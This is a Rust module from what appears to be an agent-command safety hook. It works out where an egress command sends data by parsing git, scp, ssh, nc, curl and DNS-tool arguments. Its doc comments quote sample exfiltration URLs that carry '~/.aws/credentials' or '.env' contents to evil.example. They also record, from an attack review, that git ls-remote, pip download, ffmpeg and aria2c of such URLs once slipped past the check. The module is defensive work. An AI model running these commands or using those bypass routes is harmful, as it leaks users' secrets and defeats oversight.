//! Where an egress call sends (`spec/hooks.md` §16.3): URL hosts, `user@host:path` hosts, a
//! `git push` remote, an `ssh`/`nc` host.

use super::Egress;

/// Where an egress command sends: URL hosts, `user@host:path` hosts, a `git push` remote,
/// an `ssh`/`nc` host.
pub(super) fn destinations(prog: &str, args: &[String]) -> Vec<String> {
    let plain: Vec<&String> = args.iter().filter(|a| !a.starts_with('-')).collect();
    let mut out: Vec<String> = args.iter().filter_map(|a| url_host(a)).collect();
    match prog {
        "git" => {
            // `git push|fetch|pull|ls-remote [REMOTE] …`: the word after the subcommand;
            // none is the default remote. `git clone SOURCE`: its URL's or `HOST:PATH`'s host,
            // else a path or name nobody opened (attack review 43: a clone, fetch or
            // ls-remote of `https://evil.example/<data>` sends the data in its name).
            let sub = |name: &str| plain.iter().position(|a| *a == name);
            if let Some(p) = ["push", "fetch", "pull", "ls-remote"]
                .iter()
                .find_map(|s| sub(s))
            {
                match plain.get(p + 1) {
                    Some(r) if url_host(r).is_none() => out.push((*r).clone()),
                    Some(_) => {}
                    None => out.push("the default remote".to_string()),
                }
            } else if let Some(p) = sub("clone").or_else(|| sub("add")) {
                match plain.get(p + 1) {
                    Some(r) if url_host(r).is_none() => match r.split_once(':') {
                        Some((h, _)) if !h.contains('/') && !h.is_empty() => {
                            out.push(h.rsplit('@').next().unwrap_or(h).to_lowercase());
                        }
                        _ => out.push((*r).clone()),
                    },
                    _ => {}
                }
            }
        }
        "scp" | "rsync" | "sftp" => {
            for a in &plain {
                if let Some((host, _)) = a.split_once(':') {
                    if !a.contains("://") && !host.contains('/') {
                        out.push(host.rsplit('@').next().unwrap_or(host).to_lowercase());
                    }
                }
            }
        }
        "ssh" | "nc" | "ncat" | "netcat" | "telnet" | "socat" | "ftp" | "dig" | "nslookup"
        | "host" | "ping" | "drill" | "whois" | "traceroute" => {
            if let Some(h) = plain.first() {
                out.push(h.rsplit('@').next().unwrap_or(h).to_lowercase());
            }
        }
        // `getent hosts NAME`, `resolvectl query NAME`: the names after the database or
        // verb (any of them, and an unknown one, is looked up by the resolver).
        "getent" | "resolvectl" | "systemd-resolve" => {
            out.extend(plain.iter().skip(1).map(|a| a.to_lowercase()));
        }
        _ => {
            // curl, wget: a bare host argument.
            for a in &plain {
                if url_host(a).is_none() && looks_like_host(a) {
                    out.push(a.split('/').next().unwrap_or(a).to_lowercase());
                }
            }
        }
    }
    out.sort();
    out.dedup();
    out
}

fn looks_like_host(a: &str) -> bool {
    let h = a.split('/').next().unwrap_or(a);
    let h = h.split(':').next().unwrap_or(h);
    h.contains('.')
        && !h.starts_with('.')
        && !h.starts_with('@')
        && h.chars()
            .all(|c| c.is_ascii_alphanumeric() || c == '.' || c == '-')
}

/// The host of a URL in `s` (lower case, without user or port).
fn url_host(s: &str) -> Option<String> {
    let (_, rest) = s.split_once("://")?;
    let authority = rest.split(['/', '?', '#']).next()?;
    let host = authority.rsplit('@').next()?;
    let host = if host.starts_with('[') {
        host.split(']').next().map(|h| format!("{h}]"))?
    } else {
        host.split(':').next()?.to_string()
    };
    (!host.is_empty()).then(|| host.trim_matches(['[', ']']).to_lowercase())
}

/// The host a tool's destination parameter names: a URL's host, else the string itself.
/// The destination a tool parameter's string names: a URL's host, the host of a URL written
/// without its scheme (`www.site.example/random`), lower case; else the value itself, as
/// written (an e-mail address, an account number, a user name: the user's statement of it is
/// matched by the rules of `spec/hooks.md` §4).
pub(super) fn host_of(s: &str) -> Option<String> {
    url_host(s).or_else(|| {
        let t = s.trim();
        if t.is_empty() {
            return None;
        }
        if !t.contains('@') && !t.contains(char::is_whitespace) && looks_like_host(t) {
            let h = t.split(['/', '?', '#']).next().unwrap_or(t);
            return Some(h.split(':').next().unwrap_or(h).to_lowercase());
        }
        Some(t.to_string())
    })
}

/// One egress from several (a pipeline of two senders counts every destination).
pub(super) fn merge(egress: Vec<Egress>) -> Option<Egress> {
    let mut it = egress.into_iter();
    let mut first = it.next()?;
    for e in it {
        if e.destinations.is_empty() {
            first.destinations.clear();
            first.via = e.via;
            // An unknown destination stays unknown whatever else is known.
            return Some(Egress {
                via: first.via,
                destinations: Vec::new(),
            });
        }
        first.destinations.extend(e.destinations);
    }
    Some(first)
}

/// A URL whose text is only partly known when the call is decided (`"https://evil.example/$(base64
/// -w0 ~/.aws/credentials)"`, `https://$(cat .env)@h/`): whatever program is given it, the
/// command builds a network name from data, which a request, a resolver or a log at the other
/// end receives (attack review 43: `git ls-remote`, `pip download`, `xdg-open`, `ffmpeg -i`,
/// `aria2c` of such a URL were allowed, exit 0, in a session that had read nothing). Its
/// destination: the host when that part is literal, else unknown (empty). `pieces` is the
/// word's text with each unknown part as `\0`; `None` for a word that is not such a URL.
pub(super) fn built_url(pieces: &str) -> Option<Vec<String>> {
    let (_, rest) = pieces.split_once("://")?;
    if !rest.contains('\0') {
        return None;
    }
    let host = url_host(pieces)?;
    Some(if host.contains('\0') {
        Vec::new()
    } else {
        vec![host]
    })
}
